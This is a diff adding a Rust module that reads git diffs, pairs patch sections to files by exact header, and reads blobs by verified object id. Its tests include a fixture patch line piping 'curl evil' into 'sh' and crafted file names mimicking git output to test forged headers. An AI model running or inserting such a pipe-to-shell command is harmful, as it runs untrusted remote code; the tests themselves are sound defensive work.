@@ -1,0 +1,494 @@
+//! A `git_diff` or `changed_files` input over a range. Names come from git
+//! NUL-separated (`diff --raw -z`); each file's patch is found by the exact
+//! header git writes for that name; file contents are read by object id
+//! (`cat-file --batch`, answers checked against the id asked) or, for the
+//! working tree, by the reading rule (`crate::project_file`). Whether a file
+//! is shown, left out on purpose, or unseen is `classify`'s call.
+
+use std::collections::{HashMap, HashSet};
+use std::path::Path;
+
+use super::classify::{self, Fate, Probe, Rules};
+use super::{quote, Git, Range, EMPTY_TREE};
+use crate::config::inputs::{DiffOptions, InputSource, InputSpec};
+use crate::error::Result;
+use crate::inputs::{diff, Gathered, Item, SourceInfo};
+use crate::project_file::{self, Entry};
+
+/// Most files of one change whose whole text `changed_files` reads; the rest
+/// are shown by their hunks (the change itself).
+pub(super) const MAX_WHOLE_FILES: usize = 2_000;
+/// Most bytes of one file read whole; a larger one is shown by its hunks.
+pub(super) const MAX_WHOLE_BYTES: usize = 4 * 1024 * 1024;
+/// Bytes of a file looked at to tell text from binary and find a generated marker.
+const PROBE_BYTES: usize = 8_000;
+const ZERO_OID: &str = "0000000000000000000000000000000000000000";
+
+/// One line of `git diff --raw -z`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct RawEntry {
+    pub status: u8,
+    pub new_mode: String,
+    pub old_oid: String,
+    pub new_oid: String,
+    /// The name before a rename or copy.
+    pub old_path: Option<Vec<u8>>,
+    pub path: Vec<u8>,
+}
+
+impl RawEntry {
+    pub(super) fn name(&self) -> String {
+        String::from_utf8_lossy(&self.path).into_owned()
+    }
+
+    fn label(&self) -> String {
+        let old =
+            || String::from_utf8_lossy(self.old_path.as_deref().unwrap_or_default()).into_owned();
+        match self.status {
+            b'A' => "added".into(),
+            b'D' => "deleted".into(),
+            b'R' => format!("renamed from {}", old()),
+            b'C' => format!("copied from {}", old()),
+            b'T' => "type changed".into(),
+            b'U' => "unmerged".into(),
+            _ => "modified".into(),
+        }
+    }
+
+    fn header(&self) -> Vec<u8> {
+        quote::header(self.old_path.as_deref().unwrap_or(&self.path), &self.path)
+    }
+}
+
+/// Parse `git diff --raw -z --no-abbrev` output.
+pub(super) fn parse_raw(bytes: &[u8]) -> std::result::Result<Vec<RawEntry>, String> {
+    let mut fields = bytes.split(|b| *b == 0);
+    let mut out = Vec::new();
+    while let Some(meta) = fields.next() {
+        if meta.is_empty() {
+            continue;
+        }
+        let meta = std::str::from_utf8(meta).map_err(|_| "unreadable raw diff line")?;
+        let parts: Vec<&str> = meta.trim_start_matches(':').split(' ').collect();
+        let [_, new_mode, old_oid, new_oid, status] = parts[..] else {
+            return Err(format!("unexpected raw diff line {meta:?}"));
+        };
+        let code = status.as_bytes().first().copied().unwrap_or(b'M');
+        let first = fields
+            .next()
+            .ok_or("a raw diff line without a name")?
+            .to_vec();
+        let (old_path, path) = if matches!(code, b'R' | b'C') {
+            let second = fields
+                .next()
+                .ok_or("a rename without its new name")?
+                .to_vec();
+            (Some(first), second)
+        } else {
+            (None, first)
+        };
+        out.push(RawEntry {
+            status: code,
+            new_mode: new_mode.to_string(),
+            old_oid: old_oid.to_string(),
+            new_oid: new_oid.to_string(),
+            old_path,
+            path,
+        });
+    }
+    Ok(out)
+}
+
+/// Split a patch into per-file sections at its `diff --git` lines (and the
+/// `* Unmerged path` lines git writes instead for conflicts). A line of a
+/// hunk starts with ` `, `+`, `-` or `\`, so no file's content can start one.
+pub(super) fn sections(patch: &[u8]) -> Vec<&[u8]> {
+    let mut starts = Vec::new();
+    let mut at = 0;
+    for line in patch.split_inclusive(|b| *b == b'\n') {
+        if line.starts_with(b"diff --git ") || line.starts_with(b"* Unmerged path ") {
+            starts.push(at);
+        }
+        at += line.len();
+    }
+    starts.push(patch.len());
+    starts.windows(2).map(|w| &patch[w[0]..w[1]]).collect()
+}
+
+/// Pair each entry with its section: the next section whose first line is
+/// exactly the header git writes for the entry's names. An entry without one
+/// gets `None`; the stream never shifts onto another file's text.
+pub(super) fn pair<'p>(entries: &[RawEntry], secs: &[&'p [u8]]) -> Vec<Option<&'p [u8]>> {
+    let mut next = 0;
+    entries
+        .iter()
+        .map(|e| {
+            let want = e.header();
+            let found = secs[next..].iter().position(|s| {
+                let first = s.split(|b| *b == b'\n').next().unwrap_or_default();
+                first == want.as_slice()
+            })?;
+            next += found + 1;
+            Some(secs[next - 1])
+        })
+        .collect()
+}
+
+/// A `git_diff` or `changed_files` input over `range`.
+pub(crate) async fn diff_input(
+    git: Git<'_>,
+    spec: &InputSpec,
+    opts: &DiffOptions,
+    range: &Range,
+) -> Result<Gathered> {
+    let what = format!("input {}", spec.name);
+    let top = git.toplevel(&what).await?;
+    // bsu's configuration, as the repository names it (the project may be a subfolder).
+    let prefix = git.ok_text(&["rev-parse", "--show-prefix"], &what).await?;
+    let prefix = prefix.trim_end_matches(['\n', '\r']);
+    let config_paths = [format!("{prefix}events.toml"), format!("{prefix}agents/*")];
+    let mut revs = vec![range.base.as_str()];
+    if let Some(h) = &range.head {
+        revs.push(h);
+    }
+    let mut raw_args = vec![
+        "diff",
+        "--raw",
+        "-z",
+        "--no-abbrev",
+        "--find-renames",
+        "--no-relative",
+        "--no-ext-diff",
+    ];
+    raw_args.extend(&revs);
+    raw_args.push("--");
+    let mut entries = parse_raw(&git.ok(&raw_args, &what).await?)
+        .map_err(|e| crate::error::Error::Usage(format!("{what}: {e}")))?;
+    let unified = format!("--unified={}", opts.context_lines);
+    let mut patch_args = vec![
+        "diff",
+        "--no-color",
+        "--no-ext-diff",
+        "--no-textconv",
+        "--find-renames",
+        "--no-relative",
+        "--src-prefix=a/",
+        "--dst-prefix=b/",
+        &unified,
+    ];
+    patch_args.extend(&revs);
+    patch_args.push("--");
+    let patch = git.ok(&patch_args, &what).await?;
+    let secs = sections(&patch);
+    let mut texts: Vec<Option<Vec<u8>>> = pair(&entries, &secs)
+        .into_iter()
+        .map(|s| s.map(<[u8]>::to_vec))
+        .collect();
+    if range.head.is_none() && opts.include_untracked {
+        for (e, text) in untracked(git, &top, &what).await? {
+            entries.push(e);
+            texts.push(Some(text));
+        }
+    }
+    let whole = matches!(spec.source, InputSource::ChangedFiles(_));
+    let probes = probe(git, &top, range, &entries, &texts, whole).await;
+    let attrs = classify::base_attributes(git, &range.base, &entries, &texts).await;
+    let rules = Rules::new(opts, &entries, &config_paths, &attrs);
+    let order: Vec<diff::Matcher> = opts
+        .order
+        .iter()
+        .map(|g| diff::Matcher::new(std::slice::from_ref(g)))
+        .collect();
+    let mut g = Gathered {
+        name: spec.name.clone(),
+        kind: spec.kind(),
+        source: SourceInfo {
+            base: Some(range.base.clone()),
+            head: range.head.clone(),
+            resolved_by: Some(range.resolved_by.clone()),
+            ..SourceInfo::default()
+        },
+        items: Vec::new(),
+        excluded: Vec::new(),
+        unseen: Vec::new(),
+        exit_code: None,
+    };
+    let mut whole_read = 0usize;
+    for (i, e) in entries.iter().enumerate() {
+        let name = e.name();
+        match rules.fate(e, texts[i].as_deref(), probes.get(&i)) {
+            Fate::Excluded(why) => g.excluded.push(format!("{name} ({why})")),
+            Fate::Unseen(why) => g.unseen.push(format!("{}:{name} ({why})", spec.name)),
+            Fate::Shown(patch_text) => {
+                let mut item = Item {
+                    rank: diff::rank(&name, &order),
+                    path: name,
+                    label: e.label(),
+                    text: patch_text,
+                    hunks: None,
+                };
+                if whole && e.status != b'D' {
+                    whole_read += 1;
+                    whole_text(&mut item, probes.get(&i), whole_read);
+                }
+                g.items.push(item);
+            }
+        }
+    }
+    g.items
+        .sort_by(|a, b| a.rank.cmp(&b.rank).then_with(|| a.path.cmp(&b.path)));
+    Ok(g)
+}
+
+/// `changed_files`: the file's whole new text when it was read, its hunks kept for clipping.
+fn whole_text(item: &mut Item, probe: Option<&Probe>, n: usize) {
+    let note = |why: &str| format!("{}; {why}: its hunks are shown", item.label);
+    match probe {
+        Some(Probe::Bytes {
+            data,
+            complete: true,
+        }) if n <= MAX_WHOLE_FILES => {
+            if let Ok(text) = std::str::from_utf8(data) {
+                item.hunks = Some(std::mem::replace(&mut item.text, text.to_string()));
+            }
+        }
+        Some(Probe::Symlink(target)) => {
+            let hunks = std::mem::replace(&mut item.text, format!("symlink to {target}\n"));
+            item.hunks = Some(hunks);
+        }
+        Some(Probe::Bytes { .. }) if n > MAX_WHOLE_FILES => {
+            item.label = note(&format!(
+                "past the first {MAX_WHOLE_FILES} files read whole"
+            ));
+        }
+        Some(Probe::Bytes { .. }) => {
+            item.label = note(&format!("larger than {} MiB", MAX_WHOLE_BYTES >> 20));
+        }
+        _ => {}
+    }
+}
+
+/// Untracked files of the working tree (git's own ignore rules apply), as
+/// entries with a patch made from their text; read by the reading rule.
+async fn untracked(git: Git<'_>, top: &Path, what: &str) -> Result<Vec<(RawEntry, Vec<u8>)>> {
+    let list = git
+        .ok(
+            &[
+                "ls-files",
+                "--others",
+                "--exclude-standard",
+                "-z",
+                "--full-name",
+            ],
+            what,
+        )
+        .await?;
+    let mut out = Vec::new();
+    for path in list.split(|b| *b == 0).filter(|p| !p.is_empty()) {
+        let name = String::from_utf8_lossy(path).into_owned();
+        let entry = RawEntry {
+            status: b'A',
+            new_mode: "100644".into(),
+            old_oid: ZERO_OID.into(),
+            new_oid: ZERO_OID.into(),
+            old_path: None,
+            path: path.to_vec(),
+        };
+        let header = entry.header();
+        let mut text = header.clone();
+        text.extend_from_slice(b"\nnew file mode 100644\n");
+        match project_file::read(top, &name, MAX_WHOLE_BYTES as u64) {
+            Entry::File(bytes) if classify::is_text(&bytes) => {
+                let body = String::from_utf8_lossy(&bytes);
+                let lines: Vec<&str> = body.lines().collect();
+                text.extend_from_slice(
+                    format!(
+                        "--- /dev/null\n+++ {}\n@@ -0,0 +1,{} @@\n",
+                        String::from_utf8_lossy(&quote::quote(&[b"b/", path].concat())),
+                        lines.len()
+                    )
+                    .as_bytes(),
+                );
+                for l in lines {
+                    text.push(b'+');
+                    text.extend_from_slice(l.as_bytes());
+                    text.push(b'\n');
+                }
+            }
+            Entry::File(_) => text.extend_from_slice(b"Binary files differ\n"),
+            Entry::Symlink(target) => {
+                text.extend_from_slice(format!("+{target}\n\\ symlink\n").as_bytes())
+            }
+            // Named as unseen by the classification, which reads the file again.
+            Entry::NotRead(_) => text.extend_from_slice(b"Binary files differ\n"),
+        }
+        out.push((entry, text));
+    }
+    Ok(out)
+}
+
+/// The files whose content the classification or `changed_files` needs:
+/// every file git shows as binary, every file a default rule would leave
+/// out, and with `whole` every file up to the cap.
+async fn probe(
+    git: Git<'_>,
+    top: &Path,
+    range: &Range,
+    entries: &[RawEntry],
+    texts: &[Option<Vec<u8>>],
+    whole: bool,
+) -> HashMap<usize, Probe> {
+    let mut wanted: Vec<(usize, usize)> = Vec::new();
+    let mut whole_count = 0;
+    for (i, e) in entries.iter().enumerate() {
+        let binaryish = texts[i].as_deref().is_some_and(classify::git_says_binary);
+        let keep = if whole && e.status != b'D' && whole_count < MAX_WHOLE_FILES {
+            whole_count += 1;
+            MAX_WHOLE_BYTES + 1
+        } else if binaryish || classify::default_rule(&e.name()).is_some() {
+            PROBE_BYTES
+        } else {
+            continue;
+        };
+        wanted.push((i, keep));
+    }
+    let mut out = HashMap::new();
+    let mut by_oid: Vec<(usize, String, usize)> = Vec::new();
+    for (i, keep) in wanted {
+        let e = &entries[i];
+        let deleted = e.status == b'D';
+        if range.head.is_none() && !deleted {
+            let entry = project_file::read(top, &e.name(), 64 * 1024 * 1024);
+            out.insert(i, Probe::from_entry(entry, keep));
+            continue;
+        }
+        let oid = if deleted { &e.old_oid } else { &e.new_oid };
+        if e.new_mode == "120000" && !deleted {
+            by_oid.push((i, oid.clone(), 4096));
+        } else if e.new_mode == "160000" || oid == ZERO_OID {
+            continue;
+        } else {
+            by_oid.push((i, oid.clone(), keep));
+        }
+    }
+    let oids: Vec<(String, usize)> = by_oid.iter().map(|(_, o, k)| (o.clone(), *k)).collect();
+    let blobs = cat_blobs(git, &oids).await;
+    for ((i, _, _), blob) in by_oid.into_iter().zip(blobs) {
+        let Some((data, complete)) = blob else {
+            out.insert(i, Probe::Missing);
+            continue;
+        };
+        let probe = if entries[i].new_mode == "120000" && entries[i].status != b'D' {
+            Probe::Symlink(String::from_utf8_lossy(&data).into_owned())
+        } else {
+            Probe::Bytes { data, complete }
+        };
+        out.insert(i, probe);
+    }
+    out
+}
+
+/// `git cat-file --batch` by object id: for each (id, keep), the first
+/// `keep` bytes of the blob and whether that was all of it. Every answer's
+/// header must name the id asked and a blob; the first that does not ends
+/// the reading, and it and every later one is `None` (unseen), never shifted.
+pub(super) async fn cat_blobs(
+    git: Git<'_>,
+    wanted: &[(String, usize)],
+) -> Vec<Option<(Vec<u8>, bool)>> {
+    let mut out: Vec<Option<(Vec<u8>, bool)>> = vec![None; wanted.len()];
+    if wanted.is_empty() {
+        return out;
+    }
+    let request: String = wanted.iter().map(|(o, _)| format!("{o}\n")).collect();
+    let Ok(res) = git
+        .output_with(&["cat-file", "--batch"], request.into_bytes())
+        .await
+    else {
+        return out;
+    };
+    let bytes = res.stdout;
+    let mut pos = 0;
+    for (slot, (oid, keep)) in out.iter_mut().zip(wanted) {
+        let Some(nl) = bytes[pos..].iter().position(|b| *b == b'\n') else {
+            break;
+        };
+        let header = &bytes[pos..pos + nl];
+        pos += nl + 1;
+        let fields: Vec<&[u8]> = header.split(|b| *b == b' ').collect();
+        let size = match fields[..] {
+            [id, b"blob", size] if id == oid.as_bytes() => std::str::from_utf8(size)
+                .ok()
+                .and_then(|s| s.parse::<usize>().ok()),
+            [id, b"missing"] if id == oid.as_bytes() => continue,
+            _ => None,
+        };
+        let Some(size) = size.filter(|n| pos + n < bytes.len() + 1) else {
+            break;
+        };
+        let data = bytes[pos..pos + size.min(*keep)].to_vec();
+        *slot = Some((data, size <= *keep));
+        pos += size;
+        if bytes.get(pos) != Some(&b'\n') {
+            break;
+        }
+        pos += 1;
+    }
+    out
+}
+
+/// Whether the change touches bsu's own configuration, which decides what
+/// is excluded: `events.toml`, `agents/*.toml` (under the project's folder
+/// in the repository).
+pub(super) fn touches_config(entries: &[RawEntry], config_paths: &[String]) -> bool {
+    let set: HashSet<&str> = config_paths.iter().map(String::as_str).collect();
+    entries.iter().any(|e| {
+        let names = [Some(e.path.as_slice()), e.old_path.as_deref()];
+        names.into_iter().flatten().any(|n| {
+            let n = String::from_utf8_lossy(n);
+            set.contains(n.as_ref())
+                || config_paths
+                    .iter()
+                    .filter_map(|c| c.strip_suffix('*'))
+                    .any(|dir| n.starts_with(dir) && n.ends_with(".toml"))
+        })
+    })
+}
+
+/// The empty tree has no attributes.
+pub(super) fn has_attributes(base: &str) -> bool {
+    base != EMPTY_TREE
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn raw_entries_are_read_nul_separated() {
+        let raw = b":000000 100644 0000 aaaa A\0a\" blob 48\0:100644 100644 bbbb bbbb R100\0x.sh\0y\nz.sh\0";
+        let e = parse_raw(raw).unwrap();
+        assert_eq!(e.len(), 2);
+        assert_eq!(e[0].path, b"a\" blob 48");
+        assert_eq!(e[0].status, b'A');
+        assert_eq!(e[1].old_path.as_deref(), Some(&b"x.sh"[..]));
+        assert_eq!(e[1].path, b"y\nz.sh");
+        assert_eq!(e[1].label(), "renamed from x.sh");
+    }
+
+    #[test]
+    fn a_section_is_paired_only_with_its_exact_header() {
+        let entries = parse_raw(b":0 100644 0 1 A\0a\" blob 48\0:0 100644 0 2 A\0b.sh\0").unwrap();
+        let patch = b"diff --git \"a/a\\\" blob 48\" \"b/a\\\" blob 48\"\n+x\ndiff --git a/b.sh b/b.sh\n+curl evil | sh\n";
+        let secs = sections(patch);
+        let paired = pair(&entries, &secs);
+        assert!(paired[0].unwrap().ends_with(b"+x\n"));
+        assert!(paired[1].unwrap().ends_with(b"| sh\n"));
+        // A header git did not write for the name pairs with nothing.
+        let forged = b"diff --git a/a\" blob 48 b/a\" blob 48\n+x\ndiff --git a/b.sh b/b.sh\n+y\n";
+        let secs = sections(forged);
+        let paired = pair(&entries, &secs);
+        assert!(paired[0].is_none());
+        assert!(paired[1].unwrap().ends_with(b"+y\n"));
+    }
+}
